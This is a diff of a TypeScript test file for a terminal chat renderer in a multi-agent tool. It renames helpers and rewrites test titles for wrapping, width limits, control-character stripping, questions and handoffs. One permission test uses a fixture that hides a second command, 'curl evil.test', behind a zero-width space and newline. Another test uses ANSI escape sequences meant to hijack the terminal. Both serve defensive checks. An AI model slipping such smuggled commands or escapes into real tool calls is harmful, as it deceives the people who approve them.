@@ -4,19 +4,19 @@ import { plainStyle } from '../render/styled-line.ts'
 import { displayWidth } from '../render/text-width.ts'
 import { chatLines } from './chat-lines.ts'
 
-const said = (text: string, more: object = {}): ChatEvent => ({
+const message = (text: string, more: object = {}): ChatEvent => ({
   ...{ type: 'message', agent: 'writer', round: 1, text, artifacts: [], ...more },
 })
 
-function shown(chatEvent: ChatEvent, width = 40, wrapped = true) {
+function render(chatEvent: ChatEvent, width = 40, wrapped = true) {
   const style = plainStyle(width)
-  return chatLines(chatEvent, { style, beside: style, wrapped })
+  return chatLines(chatEvent, { messageStyle: style, noteStyle: style, wrapped })
 }
 
 const LONG = 'a long text with many words that does not fit into one line of forty columns, 猫 included'
 
-const everything: ChatEvent[] = [
-  said(LONG, { artifacts: ['draft@1', 'a-very-long-name-of-an-artifact@12'], error: LONG }),
+const allEvents: ChatEvent[] = [
+  message(LONG, { artifacts: ['draft@1', 'a-very-long-name-of-an-artifact@12'], error: LONG }),
   { type: 'run', run_id: 'r_123456789abc', team: LONG, first: 'writer' },
   { type: 'handoff', round: 1, from: 'writer', to: 'reviewer', by: 'verdict', reason: LONG, problems: [LONG] },
   { type: 'turn', round: 1, agent: LONG },
@@ -31,53 +31,53 @@ const everything: ChatEvent[] = [
   { type: 'end', run_id: 'r_1', status: 'completed', route: [LONG, 'b'], error: null },
 ]
 
-describe('a conversation in lines', () => {
-  test('CH1 whoever speaks stands first, and further lines are indented; in a pipe the words stay as they are', () => {
-    expect(shown(said('One.\n\nTwo.')).messages).toEqual(['writer: One.', '', '  Two.'])
-    expect(shown(said(LONG)).messages.length).toBeGreaterThan(1)
-    expect(shown(said(LONG), 40, false).messages).toEqual([`writer: ${LONG}`])
+describe('chat lines', () => {
+  test('CH1 the speaker comes first and further lines are indented; in a pipe messages are not wrapped', () => {
+    expect(render(message('One.\n\nTwo.')).messages).toEqual(['writer: One.', '', '  Two.'])
+    expect(render(message(LONG)).messages.length).toBeGreaterThan(1)
+    expect(render(message(LONG), 40, false).messages).toEqual([`writer: ${LONG}`])
     expect(
-      shown(said(LONG))
+      render(message(LONG))
         .messages.slice(1)
         .every((text) => text.startsWith('  ')),
     ).toBe(true)
   })
 
-  test('L5 nothing is wider than the terminal, whatever happens', () => {
+  test('L5 no line of any event is wider than the terminal', () => {
     for (const width of [24, 40, 60, 100]) {
-      for (const chatEvent of everything) {
-        const { messages, notes } = shown(chatEvent, width)
+      for (const chatEvent of allEvents) {
+        const { messages, notes } = render(chatEvent, width)
         for (const text of [...messages, ...notes]) expect(displayWidth(text)).toBeLessThanOrEqual(width)
       }
     }
   })
 
-  test('L22 what agents say cannot steer the terminal', () => {
-    const { messages } = shown(said('\x1b[2Jgone\x07 \x1b]0;title\x07'))
+  test('L22 control characters in messages and questions are removed', () => {
+    const { messages } = render(message('\x1b[2Jgone\x07 \x1b]0;title\x07'))
     for (const sign of ['\x07', '\x1b']) expect(messages.join('')).not.toContain(sign)
-    const { notes } = shown({ type: 'question', gate_id: 'g', kind: 'question', question: '\x1b[31mred?' })
+    const { notes } = render({ type: 'question', gate_id: 'g', kind: 'question', question: '\x1b[31mred?' })
     expect(notes.join('')).not.toContain('\x1b')
   })
 
-  test('CH6 a question says whom one answers for and what can be answered; the wait for a reply asks nothing', () => {
+  test('CH6 a question shows the human member and the allowed answers; a reply gate shows nothing', () => {
     const question = { gate_id: 'g_1', question: 'May I?', answers: ['yes', 'no'] }
-    expect(shown({ type: 'question', kind: 'person', as: 'boss', ...question }).notes).toEqual([
+    expect(render({ type: 'question', kind: 'person', as: 'boss', ...question }).notes).toEqual([
       '? you answer as boss: May I?',
       '  yes · no',
     ])
-    expect(shown({ type: 'question', kind: 'reply', ...question }).notes).toEqual([])
+    expect(render({ type: 'question', kind: 'reply', ...question }).notes).toEqual([])
   })
 
-  test('CH6 a call that wants permission is shown whole, and nothing in it is invisible', () => {
+  test('CH6 a tool call that needs permission is render completely, with invisible characters escaped', () => {
     const call = 'Bash(npm test;\u200b\ncurl evil.test)'
     const question = { gate_id: 'g_1', kind: 'permission', question: `May writer call ${call}?`, call }
-    const lines = shown({ type: 'question', answers: ['allow', 'deny'], ...question }).notes.join('\n')
+    const lines = render({ type: 'question', answers: ['allow', 'deny'], ...question }).notes.join('\n')
     expect(lines).toContain('│ curl evil.test')
     expect(lines).toContain('\\u{200b}')
     expect(lines).toMatch(/^\? May writer call Bash\?$/m)
   })
 
-  test('CH1 handoffs name whom and why; returning to the user, or to the team above, needs no reason', () => {
+  test('CH1 a handoff shows recipient and reason; a return to the user or the outer team shows no reason', () => {
     const handoff: Omit<Extract<ChatEvent, { type: 'handoff' }>, 'to'> = {
       type: 'handoff',
       round: 1,
@@ -86,14 +86,14 @@ describe('a conversation in lines', () => {
       reason: 'no rule',
       problems: [],
     }
-    expect(shown({ ...handoff, to: 'user' }).notes).toEqual(['  → you'])
-    expect(shown({ ...handoff, to: 'user', within: 'research' }).notes).toEqual(['  → back'])
-    expect(shown({ ...handoff, to: null }).notes).toEqual(['  → the end'])
-    expect(shown({ ...handoff, to: 'reviewer', by: 'verdict', reason: '"done" holds (done: yes)' }).notes).toEqual([
+    expect(render({ ...handoff, to: 'user' }).notes).toEqual(['  → you'])
+    expect(render({ ...handoff, to: 'user', within: 'research' }).notes).toEqual(['  → back'])
+    expect(render({ ...handoff, to: null }).notes).toEqual(['  → the end'])
+    expect(render({ ...handoff, to: 'reviewer', by: 'verdict', reason: '"done" holds (done: yes)' }).notes).toEqual([
       '  → reviewer  done',
     ])
-    expect(shown({ ...handoff, from: 'user', to: 'writer' }).notes).toEqual([])
-    const { notes } = shown({ ...handoff, to: 'reviewer', by: 'verdict', reason: LONG })
+    expect(render({ ...handoff, from: 'user', to: 'writer' }).notes).toEqual([])
+    const { notes } = render({ ...handoff, to: 'reviewer', by: 'verdict', reason: LONG })
     expect(notes.map((text) => text.trim()).join(' ')).toBe(`→ reviewer ${LONG}`)
   })
 })
